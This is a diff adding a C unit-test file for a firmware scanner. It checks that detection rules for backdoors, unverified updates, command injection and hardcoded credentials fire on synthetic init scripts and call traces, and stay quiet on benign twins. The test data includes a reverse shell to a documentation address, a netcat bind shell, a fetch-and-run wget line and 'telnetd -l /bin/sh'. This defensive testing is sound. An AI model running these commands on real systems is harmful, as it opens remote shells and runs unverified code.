@@ -1,0 +1,525 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+/* Every pass on a made-up trace or script: what must fire, and its benign twin that must not. */
+#include "fake_image.h"
+
+#include "base/scope.h"
+
+/* ---- scripts: text, rule, severity it must have; -1: nothing of the rule ---- */
+
+static const struct {
+	const char *text, *rule;
+	int severity;
+	bool boot;
+} scripts[] = {
+	/* negative: what is only mentioned or local proves nothing (F16) */
+	{ "# 203.0.113.5\necho 203.0.113.5\nVERSION=1.2.840.10008\nMASK=255.255.255.0", "", -1, true },
+	{ "mount -t nfs 192.168.1.10:/rescue /mnt\n", "", -1, true },
+	{ "ntpd -p 0.pool.ntp.org\nntpdate 203.0.113.9", "", -1, true },
+	{ "ifconfig lo up; ifconfig eth0 up; ifconfig eth0 10.0.0.2 netmask 255.255.255.0", "", -1, true },
+	{ "ping 203.0.113.5; nslookup pool.example.org 8.8.8.8; echo nameserver 8.8.8.8 > /etc/resolv.conf", "", -1, true },
+	{ "mount -t proc proc /proc; mount /dev/mtdblock3 /data; cp -rf /data/* /opt; chmod +x /opt/app; /opt/app", "", -1, true },
+	{ "S=$(nvram get server)\nnc $S 515", "", -1, true },
+	/* F3, F4 in full and in parts */
+	{ "mount -o nolock -t nfs 202.114.4.119:/pm /mnt", "fw.remote-mount", SEV_HIGH, false },
+	{ "mount -t cifs //files.example.org/fw /mnt -o username=u,password=hunter22", "fw.remote-mount", SEV_MEDIUM, false },
+	{ "ifconfig eth0 up\nmount -o nolock -t nfs 202.114.4.119:/pm /mnt\ncp -rf /mnt/* /opt/bin\nchmod +x /opt/bin/monitor\n"
+	  "/opt/bin/monitor", "fw.code-overwrite", SEV_CRITICAL, false },
+	{ "mount -t nfs 203.0.113.5:/pm /mnt && cp -a /mnt /opt", "fw.code-overwrite", SEV_HIGH, false },
+	{ "mount -t nfs 203.0.113.5:/pm /mnt\ncp -rf /tmp/x /opt/bin", "fw.code-overwrite", -1, false },
+	{ "mount -t nfs 203.0.113.5:/pm /mnt\nsha256sum -c /mnt/list || exit 1\ncp -rf /mnt/* /opt\n/opt/app", "fw.code-overwrite", -1,
+	  false },
+	{ "mount -t nfs $SERVER:/pm /mnt\ncp -rf /mnt/* /opt\n/opt/app", "fw.code-overwrite", -1, false },
+	{ "up() { ifconfig eth0 up; }\nget() { mount -t nfs $1:/pm /mnt; }\nup; get 203.0.113.5; cp -rf /mnt/* /usr/bin; sh /usr/bin/go",
+	  "fw.code-overwrite", SEV_CRITICAL, false },
+	/* F6 in scripts only with something behind it */
+	{ "ifconfig eth0 up\nmount -t nfs 203.0.113.5:/pm /mnt", "fw.interface-forced", SEV_HIGH, true },
+	/* F7 */
+	{ "wget http://203.0.113.5/fw.sh -O /tmp/fw.sh; sh /tmp/fw.sh", "fw.unverified-update", SEV_HIGH, false },
+	{ "cd /tmp; tftp -g -r fw.bin 203.0.113.5; mtd write fw.bin rootfs", "fw.unverified-update", SEV_HIGH, false },
+	{ "wget http://203.0.113.5/fw.sh -O /tmp/fw.sh; gpg --verify /tmp/fw.sig /tmp/fw.sh && sh /tmp/fw.sh", "fw.unverified-update", -1,
+	  false },
+	{ "wget http://203.0.113.5/notes.txt -O /tmp/notes; sh /etc/other.sh", "fw.unverified-update", -1, false },
+	{ "wget http://$SERVER/fw.sh -O /tmp/fw.sh; sh /tmp/fw.sh", "fw.unverified-update", SEV_MEDIUM, false },
+	/* F5 */
+	{ "nc 203.0.113.5 515 < /tmp/data", "fw.fixed-destination", SEV_MEDIUM, false },
+	{ "S=203.0.113.5\n. /etc/app.conf\nwget http://$S/x", "fw.fixed-destination", SEV_MEDIUM, false },
+	{ "wget http://203.0.113.5/x", "fw.fixed-destination", SEV_HIGH, false },
+	{ "wget http://127.0.0.1/x; curl http://10.1.2.3/x; telnet 192.168.0.1", "fw.fixed-destination", -1, false },
+	/* F9 */
+	{ "telnetd -l /bin/sh", "fw.remote-shell", SEV_CRITICAL, true },
+	{ "[ -f /etc/debug ] && telnetd", "fw.remote-shell", SEV_HIGH, true },
+	{ "dropbear -p 22", "fw.remote-shell", SEV_INFO, true },
+	{ "nc -l -p 4444 -e /bin/sh", "fw.remote-shell", SEV_CRITICAL, false },
+	{ "sh -i >& /dev/tcp/203.0.113.5/4444 0>&1", "fw.remote-shell", SEV_CRITICAL, false },
+	{ "killall telnetd; echo telnetd; which telnetd", "fw.remote-shell", -1, true },
+	/* F10 */
+	{ "echo root:hunter22 | chpasswd", "fw.fixed-credential", SEV_MEDIUM, true },
+	{ "wget ftp://u:hunter22@203.0.113.5/f", "fw.fixed-credential", SEV_MEDIUM, false },
+	{ "curl -u $USER:$PASS http://10.0.0.1/", "fw.fixed-credential", -1, false },
+	{ "ftp -n 203.0.113.5 <<E\nuser u hunter22\nget x\nE", "fw.fixed-credential", SEV_MEDIUM, false },
+};
+
+static void scripts_give_what_they_do_and_no_more(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(scripts); i++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_file(&k, "etc/init.d/S50app", SCENE_SCRIPT, scripts[i].text)->boot = scripts[i].boot;
+		fake_run(&k);
+		struct finding *f = *scripts[i].rule ? fake_found(&k, scripts[i].rule) : k.nfound ? k.found[0] : NULL;
+		int got = f ? (int)f->severity : -1;
+		if (got != scripts[i].severity)
+			fail_msg("script %zu: severity %d, expected %d: %s\n%s", i, got, scripts[i].severity, f ? f->title : "no finding",
+				 scripts[i].text);
+		fake_end(&k);
+	}
+}
+
+static bool json_has(struct fake *k, const struct finding *f, const char *text)
+{
+	struct record r;
+	struct buf b = { 0 };
+	finding_record(f, &r, &k->host, scene_file_name, &k->scene);
+	json_record(&b, &r, NULL);
+	buf_u8(&b, 0);
+	bool is = strstr((const char *)b.p, text) != NULL;
+	buf_done(&b);
+	return is;
+}
+
+static void no_secret_leaves(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(scripts); i++) {
+		struct fake k;
+		fake_begin(&k);
+		(void)fake_file(&k, "a", SCENE_SCRIPT, scripts[i].text);
+		fake_run(&k);
+		for (uint32_t n = 0; n < k.nfound; n++)
+			assert_false(json_has(&k, k.found[n], "hunter22"));
+		fake_end(&k);
+	}
+}
+
+/* ---- programs ---- */
+
+static void fires(struct fake *k, const char *rule, enum severity severity)
+{
+	fake_run(k);
+	const struct finding *f = fake_found(k, rule);
+	if (!f)
+		fail_msg("nothing of %s", rule);
+	else if (f->severity != severity || !f->nsteps)
+		fail_msg("%s: %u steps: %s", severity_name(f->severity), f->nsteps, f->title);
+}
+
+static void nothing_above_info(struct fake *k)
+{
+	fake_run(k);
+	for (uint32_t n = 0; n < k->nfound; n++)
+		if (k->found[n]->severity > SEV_INFO)
+			fail_msg("%s", k->found[n]->title);
+}
+
+static void call_home(struct fake *k, const char *to)
+{
+	record_int(fake_call(k, CALL_NETWORK, "socket", "family=#2", "type=#1", "protocol=#0", NULL), FWC_RESULT, 5);
+	fake_call(k, CALL_NETWORK, "connect", "fd=#5", to, NULL);
+}
+
+static void constant_destination_fires_and_configured_does_not(void **state)
+{
+	(void)state;
+	struct fake k;
+	fake_begin(&k);
+	fake_program(&k, "bin/monitor");
+	call_home(&k, "to=@203.0.113.5/515");
+	fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"hello", NULL);
+	fires(&k, "fw.fixed-destination", SEV_HIGH);
+	assert_true(json_has(&k, k.found[0], "\"setting\":\"constant only\""));
+	assert_true(json_has(&k, k.found[0], "\"range\":\"documentation\""));
+	assert_true(json_has(&k, k.found[0], "\"transport\":\"tcp\""));
+	assert_true(json_has(&k, k.found[0], "ward.bin > 0x10000 cramfs > bin/monitor"));
+	fake_end(&k);
+
+	static const char *const benign[] = { "to=~203.0.113.5/515", "to=@192.168.1.5/515", "to=@127.0.0.1/515", "to=@203.0.113.5/53",
+					      "to=@224.0.0.1/515", "to=@255.255.255.255/9610" };
+	for (size_t i = 0; i < ARRAY_LEN(benign); i++) {
+		fake_begin(&k);
+		fake_program(&k, "bin/monitor");
+		call_home(&k, benign[i]);
+		fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"hello", NULL);
+		nothing_above_info(&k);
+		assert_int_equal(k.nfound, 0);
+		fake_end(&k);
+	}
+}
+
+static void a_default_is_told_from_a_constant(void **state)
+{
+	(void)state;
+	struct fake k;
+	fake_begin(&k);
+	fake_program(&k, "bin/monitor");
+	struct record *a = fake_call(&k, CALL_NETWORK, "connect", "fd=#5", "to=@203.0.113.5/515", NULL);
+	fake_path(&k, 2, 1, 0);
+	struct record *b = fake_call(&k, CALL_NETWORK, "connect", "fd=#5", "to=~198.51.100.1/515", NULL);
+	record_uint(b, FWC_SITE, record_get_uint(a, FWC_SITE));
+	fires(&k, "fw.fixed-destination", SEV_MEDIUM);
+	assert_true(json_has(&k, k.found[0], "default that configuration may replace"));
+	fake_end(&k);
+}
+
+static void overwrite(struct fake *k, const char *mount, bool check)
+{
+	fake_call(k, CALL_RUN, "system", "command=\"ifconfig eth0 up", NULL);
+	fake_call(k, CALL_RUN, "system", mount, NULL);
+	if (check)
+		fake_call(k, CALL_CHECK, "EVP_DigestVerifyFinal", NULL);
+	fake_call(k, CALL_RUN, "system", "command=\"cp -rf /mnt/* /opt/bin/", NULL);
+	fake_call(k, CALL_FILE, "chmod", "path=\"/opt/bin/monitor", "mode=#0755", NULL);
+	fake_call(k, CALL_RUN, "execl", "path=\"/opt/bin/monitor", "argv=[monitor", NULL);
+}
+
+static void the_known_chain_is_critical(void **state)
+{
+	(void)state;
+	struct fake k;
+	fake_begin(&k);
+	fake_program(&k, "bin/monitor");
+	overwrite(&k, "command=\"mount -o nolock -t nfs 202.114.4.119:/pm /mnt", false);
+	fires(&k, "fw.code-overwrite", SEV_CRITICAL);
+	struct finding *f = fake_found(&k, "fw.code-overwrite");
+	assert_int_equal(f->nsteps, 5);
+	assert_int_equal(f->observed->v[OBS_STEPS].texts.n, 5);
+	assert_non_null(fake_found(&k, "fw.remote-mount"));
+	assert_non_null(fake_found(&k, "fw.interface-forced"));
+	assert_non_null(fake_found(&k, "fw.unverified-update"));
+	char id[CASE_ID_TEXT], other[CASE_ID_TEXT];
+	case_id(f, id);
+	case_id(fake_found(&k, "fw.remote-mount"), other);
+	assert_string_equal(id, other);
+	fake_end(&k);
+
+	fake_begin(&k);
+	fake_program(&k, "bin/monitor");
+	fake_call(&k, CALL_CONFIG, "nvram_get", "name=\"lan_up", NULL);
+	overwrite(&k, "command=\"mount -o nolock -t nfs {file:/etc/update.conf}:/pm /mnt", true);
+	nothing_above_info(&k);
+	fake_end(&k);
+}
+
+static void steps_on_different_paths_do_not_add_up(void **state)
+{
+	(void)state;
+	struct fake k;
+	fake_begin(&k);
+	fake_program(&k, "bin/monitor");
+	fake_path(&k, 2, 1, 0);
+	fake_call(&k, CALL_RUN, "system", "command=\"mount -t nfs 203.0.113.5:/pm /mnt", NULL);
+	fake_path(&k, 3, 1, 0);
+	fake_call(&k, CALL_RUN, "system", "command=\"cp -rf /mnt/* /opt", NULL);
+	fake_call(&k, CALL_RUN, "system", "command=\"/opt/x", NULL);
+	fake_run(&k);
+	assert_null(fake_found(&k, "fw.code-overwrite"));
+	assert_non_null(fake_found(&k, "fw.remote-mount"));
+	fake_end(&k);
+
+	fake_begin(&k);                          /* the same on one path, parted by a branch */
+	fake_program(&k, "bin/monitor");
+	fake_call(&k, CALL_MOUNT, "mount", "source=\"203.0.113.5:/pm", "target=\"/mnt", "type=\"nfs", "flags=#0", "data=\"nolock", NULL);
+	uint64_t here = k.order;
+	fake_path(&k, 2, 1, here);
+	fake_call(&k, CALL_RUN, "execv", "path=\"/bin/cp", "argv=[cp|-rf|/mnt/.|/opt", NULL);
+	fake_call(&k, CALL_RUN, "system", "command=\"/opt/x &", NULL);
+	fires(&k, "fw.code-overwrite", SEV_CRITICAL);
+	fake_end(&k);
+}
+
+static void an_interface_that_is_asked_for_is_fine(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *config, *name;
+		bool fires;
+	} cases[] = { { NULL, "data=\"eth0", true }, { "name=\"lan", "data=\"eth0", false }, { NULL, "data=\"{argv}", false },
+		      { NULL, "data=\"", false } };
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_program(&k, "bin/monitor");
+		if (cases[i].config)
+			fake_call(&k, CALL_CONFIG, "nvram_get", cases[i].config, NULL);
+		fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#3", "request=#0x8914", cases[i].name, NULL);
+		fake_run(&k);
+		assert_int_equal(fake_found(&k, "fw.interface-forced") != NULL, cases[i].fires);
+		fake_end(&k);
+	}
+}
+
+/* Binds, receives, maybe logs in, compares, runs. */
+static void listen_and(struct fake *k, bool login, const char *compare, const char *run)
+{
+	record_int(fake_call(k, CALL_NETWORK, "socket", "family=#2", "type=#2", "protocol=#0", NULL), FWC_RESULT, 4);
+	fake_call(k, CALL_NETWORK, "bind", "fd=#4", "address=@0.0.0.0/7329", NULL);
+	fake_call(k, CALL_RECEIVE, "recvfrom", "fd=#4", NULL);
+	if (login)
+		fake_call(k, CALL_LOGIN, "crypt", "key=\"{recvfrom}", "salt=\"{file:/etc/shadow}", NULL);
+	if (compare)
+		record_int(fake_call(k, CALL_COMPARE, "strcmp", "a=\"{recvfrom}", compare, NULL), FWC_RESULT, 0);
+	if (run)
+		fake_call(k, CALL_RUN, "system", run, NULL);
+}
+
+static void listeners_with_a_log_in_are_fine(void **state)
+{
+	(void)state;
+	struct fake k;
+	fake_begin(&k);
+	fake_program(&k, "bin/httpd");
+	listen_and(&k, false, NULL, "command=\"{recvfrom}");
+	fires(&k, "fw.hidden-listener", SEV_CRITICAL);
+	assert_true(json_has(&k, fake_found(&k, "fw.hidden-listener"), "\"listener\":7329"));
+	assert_true(json_has(&k, fake_found(&k, "fw.hidden-listener"), "\"transport\":\"udp\""));
+	assert_non_null(fake_found(&k, "fw.command-injection"));
+	fake_end(&k);
+
+	fake_begin(&k);
+	fake_program(&k, "bin/httpd");
+	listen_and(&k, true, NULL, "command=\"/sbin/reboot");
+	nothing_above_info(&k);
+	fake_end(&k);
+}
+
+static void an_open_unix_socket_counts(void **state)
+{
+	(void)state;
+	for (int open = 0; open < 2; open++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_program(&k, "bin/cmddog");
+		fake_call(&k, CALL_NETWORK, "bind", "fd=#4", "address=u/tmp/cmd", NULL);
+		fake_call(&k, CALL_FILE, "chmod", "path=\"/tmp/cmd", open ? "mode=#0777" : "mode=#0600", NULL);
+		fake_call(&k, CALL_RECEIVE, "recv", "fd=#4", NULL);
+		fake_call(&k, CALL_COMPARE, "strchr", "a=\"{recv}", "b=\";", NULL);
+		fake_call(&k, CALL_RUN, "system", "command=\"{recv}", NULL);
+		fake_run(&k);
+		assert_int_equal(fake_found(&k, "fw.hidden-listener") != NULL, open);
+		fake_end(&k);
+	}
+}
+
+static void a_magic_word_opens_and_a_protocol_word_does_not(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *word, *run;
+		bool login;
+		int severity;
+	} cases[] = {
+		{ "b=\"w302r_mfg", "command=\"telnetd", false, SEV_CRITICAL }, { "b=\"open-sesame-77", "command=\"telnetd", false, SEV_HIGH },
+		{ "b=\"w302r_mfg", NULL, false, SEV_MEDIUM },                  { "b=\"GET ", "command=\"/sbin/reboot", false, -1 },
+		{ "b=\"open-sesame-77", NULL, false, -1 },                     { "b=\"open-sesame-77", "command=\"telnetd", true, -1 },
+		{ "b=#0x53634d4d", "command=\"/bin/cfg", false, SEV_CRITICAL }, { "b=#4", "command=\"/bin/cfg", false, -1 },
+	};
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_program(&k, "bin/httpd");
+		listen_and(&k, cases[i].login, cases[i].word, cases[i].run);
+		fake_run(&k);
+		struct finding *f = fake_found(&k, "fw.magic-value");
+		assert_int_equal(f ? (int)f->severity : -1, cases[i].severity);
+		fake_end(&k);
+	}
+}
+
+static void a_magic_word_that_did_not_match_opens_nothing(void **state)
+{
+	(void)state;
+	struct fake k;
+	fake_begin(&k);
+	fake_program(&k, "bin/httpd");
+	listen_and(&k, false, NULL, NULL);
+	record_int(fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{recvfrom}", "b=\"open-sesame-77", NULL), FWC_RESULT, 1);
+	fake_call(&k, CALL_RUN, "system", "command=\"/bin/date", NULL);
+	fake_run(&k);
+	assert_null(fake_found(&k, "fw.magic-value"));
+	fake_end(&k);
+}
+
+static void checked_input_is_no_injection(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *check, *source;
+		bool fires;
+	} cases[] = { { NULL, "command=\"ping {getenv:QUERY_STRING}", true }, { NULL, "command=\"ping {recv}", true },
+		      { "text=\"{recv}", "command=\"ping {recv}", false }, { NULL, "command=\"ping {argv}", false },
+		      { NULL, "command=\"ping {file:/etc/host.conf}", false }, { NULL, "command=\"ping {getenv:HOME}", false } };
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_program(&k, "www/cgi-bin/ping");
+		if (cases[i].check)
+			fake_call(&k, CALL_RESOLVE, "inet_pton", "family=#2", cases[i].check, NULL);
+		fake_call(&k, CALL_RUN, "system", cases[i].source, NULL);
+		fake_run(&k);
+		assert_int_equal(fake_found(&k, "fw.command-injection") != NULL, cases[i].fires);
+		fake_end(&k);
+	}
+}
+
+static void a_password_is_found_and_not_shown(void **state)
+{
+	(void)state;
+	struct fake k;
+	fake_begin(&k);
+	fake_program(&k, "bin/menu");
+	fake_call(&k, CALL_SEND, "send", "fd=#4", "data=\"Password: ", NULL);
+	fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{recv}", "b=\"swordfish9", NULL);
+	fires(&k, "fw.fixed-credential", SEV_HIGH);
+	assert_false(json_has(&k, fake_found(&k, "fw.fixed-credential"), "swordfish9"));
+	fake_end(&k);
+
+	fake_begin(&k);                          /* nobody was asked for a password: a word among others */
+	fake_program(&k, "bin/menu");
+	fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{recv}", "b=\"swordfish9", NULL);
+	fake_run(&k);
+	assert_null(fake_found(&k, "fw.fixed-credential"));
+	fake_end(&k);
+}
+
+static void accounts_and_keys(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *path, *text;
+		enum scene_kind kind;
+		int severity;
+	} cases[] = {
+		{ "etc/passwd", "root:x:0:0:root:/root:/bin/sh\nnobody:*:99:99::/:/bin/false\n", SCENE_ACCOUNTS, -1 },
+		{ "etc/passwd", "root::0:0:root:/root:/bin/sh\n", SCENE_ACCOUNTS, SEV_HIGH },
+		{ "etc/shadow", "root:$1$abcdefgh$0123456789012345678901:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_MEDIUM },
+		{ "etc/shadow", "root:*:10933:0:99999:7:::\ndaemon:!:1::::::\n", SCENE_ACCOUNTS, -1 },
+		{ "etc/ssl/key.pem", "-----BEGIN RSA PRIVATE KEY-----\n", SCENE_KEYS, SEV_MEDIUM },
+		{ "etc/ssl/ca.pem", "-----BEGIN CERTIFICATE-----\n", SCENE_KEYS, -1 },
+		{ "root/.ssh/authorized_keys", "ssh-rsa AAAA x\n", SCENE_KEYS, SEV_MEDIUM },
+	};
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		struct fake k;
+		fake_begin(&k);
+		(void)fake_file(&k, cases[i].path, cases[i].kind, cases[i].text);
+		fake_run(&k);
+		struct finding *f = fake_found(&k, "fw.fixed-credential");
+		assert_int_equal(f ? (int)f->severity : -1, cases[i].severity);
+		fake_end(&k);
+	}
+}
+
+static void tables_of_services_are_read(void **state)
+{
+	(void)state;
+	struct fake k;
+	fake_begin(&k);
+	(void)fake_file(&k, "etc/inittab", SCENE_INITTAB, "::sysinit:/etc/init.d/rcS\n#::respawn:telnetd -l /bin/sh\n");
+	(void)fake_file(&k, "etc/inetd.conf", SCENE_INETD, "#telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n");
+	fake_run(&k);
+	assert_int_equal(k.nfound, 0);
+	fake_end(&k);
+	fake_begin(&k);
+	(void)fake_file(&k, "etc/inittab", SCENE_INITTAB, "::respawn:/usr/sbin/telnetd -F -l /bin/sh\n");
+	(void)fake_file(&k, "etc/inetd.conf", SCENE_INETD, "ftp stream tcp nowait root /usr/sbin/ftpd ftpd -w\n");
+	fake_run(&k);
+	assert_int_equal(k.nfound, 2);
+	assert_int_equal(k.found[0]->severity, SEV_CRITICAL);
+	fake_end(&k);
+}
+
+static void patients_fields_to_a_fixed_address(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *to, *text;
+		int severity;
+	} cases[] = {
+		{ "to=@203.0.113.5/515", "data=\"MSH|^~\\&|MON|\rPID|1||{file:/tmp/patient}", SEV_HIGH },
+		{ "to=@203.0.113.5/515", "data=\"patient_name={x};birth_date={y}", SEV_HIGH },
+		{ "to=~203.0.113.5/515", "data=\"MSH|^~\\&|MON|", -1 },
+		{ "to=@203.0.113.5/515", "data=\"GET / HTTP/1.0\r\n", -1 },
+		{ "to=@127.0.0.1/515", "data=\"MSH|^~\\&|MON|", -1 },
+	};
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_program(&k, "bin/monitor");
+		call_home(&k, cases[i].to);
+		fake_call(&k, CALL_SEND, "send", "fd=#5", cases[i].text, NULL);
+		fake_run(&k);
+		struct finding *f = fake_found(&k, "fw.patient-data-sender");
+		assert_int_equal(f ? (int)f->severity : -1, cases[i].severity);
+		fake_end(&k);
+	}
+}
+
+static void endless_parents_end(void **state)
+{
+	(void)state;
+	struct fake k;
+	fake_begin(&k);
+	fake_program(&k, "bin/monitor");
+	fake_path(&k, 2, 3, 5);
+	fake_path(&k, 3, 2, 5);
+	fake_path(&k, 4, 4, 5);
+	call_home(&k, "to=@203.0.113.5/515");
+	fake_call(&k, CALL_RUN, "system", NULL);
+	fake_call(&k, CALL_RUN, "execve", NULL);
+	fake_call(&k, CALL_MOUNT, "mount", NULL);
+	fake_call(&k, CALL_INTERFACE, "ioctl", NULL);
+	fake_call(&k, CALL_COMPARE, "strcmp", NULL);
+	fake_call(&k, CALL_FILE, "chmod", NULL);
+	fake_call(&k, CALL_NETWORK, "bind", NULL);
+	fake_call(&k, CALL_RESOLVE, "getaddrinfo", NULL);
+	fake_run(&k);
+	fake_end(&k);
+}
+
+static void texts_of_rules_say_what_they_see(void **state)
+{
+	(void)state;
+	for (int i = 0; passes[i]; i++) {
+		const struct rule *r = passes[i]->rule;
+		assert_true(strncmp(r->id, "fw.", 3) == 0);
+		assert_non_null(r->title);
+		assert_non_null(r->cause);
+		assert_true(r->sees && r->why && r->wrong && r->next[0] && r->attack[0] && r->cwe[0]);
+		assert_null(strstr(r->why, "backdoor"));
+		assert_null(strstr(r->title, "backdoor"));
+	}
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(scripts_give_what_they_do_and_no_more),
+		cmocka_unit_test(no_secret_leaves),
+		cmocka_unit_test(constant_destination_fires_and_configured_does_not),
+		cmocka_unit_test(a_default_is_told_from_a_constant),
+		cmocka_unit_test(the_known_chain_is_critical),
+		cmocka_unit_test(steps_on_different_paths_do_not_add_up),
+		cmocka_unit_test(an_interface_that_is_asked_for_is_fine),
+		cmocka_unit_test(listeners_with_a_log_in_are_fine),
+		cmocka_unit_test(an_open_unix_socket_counts),
+		cmocka_unit_test(a_magic_word_opens_and_a_protocol_word_does_not),
+		cmocka_unit_test(a_magic_word_that_did_not_match_opens_nothing),
+		cmocka_unit_test(checked_input_is_no_injection),
+		cmocka_unit_test(a_password_is_found_and_not_shown),
+		cmocka_unit_test(accounts_and_keys),
+		cmocka_unit_test(tables_of_services_are_read),
+		cmocka_unit_test(patients_fields_to_a_fixed_address),
+		cmocka_unit_test(endless_parents_end),
+		cmocka_unit_test(texts_of_rules_say_what_they_see),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
